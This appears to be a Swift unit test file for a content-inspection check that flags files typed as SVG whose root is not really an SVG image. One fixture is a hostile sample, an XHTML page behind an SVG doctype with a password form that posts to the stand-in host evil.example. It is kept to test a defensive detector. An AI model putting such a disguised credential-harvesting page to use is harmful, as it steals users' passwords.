import Testing

@testable import Inspection

/// A file typed image/svg+xml must be an SVG image (attack round 6): an XHTML page behind the SVG doctype is another
/// kind of document to the browser that opens it.
struct SVGRootTests {
    static let doctype = #"<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">"#

    @Test(arguments: [
        #"<?xml version="1.0"?>\#n\#(doctype)\#n<html xmlns="http://www.w3.org/1999/xhtml"><body><form action="https://evil.example/login"><input name="p" type="password"/></form></body></html>"#,
        #"<math xmlns="http://www.w3.org/1998/Math/MathML"><mi>x</mi></math>"#,
        #"<svg xmlns="http://www.w3.org/1999/xhtml"><p>not an image</p></svg>"#,
        #"<x:svg xmlns:x="http://www.w3.org/1999/xhtml"/>"#,
        #"<!-- only a comment -->"#,
    ])
    func anotherRootIsNotAnSVGImage(_ text: String) {
        #expect(MarkupActiveContent.svgRootProblem(in: Array(text.utf8)) != nil, "\(text)")
    }

    @Test(arguments: [
        #"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 8"><circle r="4"/></svg>"#,
        #"<?xml version="1.0"?>\#n\#(doctype)\#n<!-- icon -->\#n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"/>"#,
        #"<svg:svg xmlns:svg="http://www.w3.org/2000/svg"><svg:rect width="1" height="1"/></svg:svg>"#,
        "\u{FEFF}<svg xmlns=\"http://www.w3.org/2000/svg\"/>",
    ])
    func anSVGRootIsAnSVGImage(_ text: String) {
        #expect(MarkupActiveContent.svgRootProblem(in: Array(text.utf8)) == nil, "\(text)")
    }
}
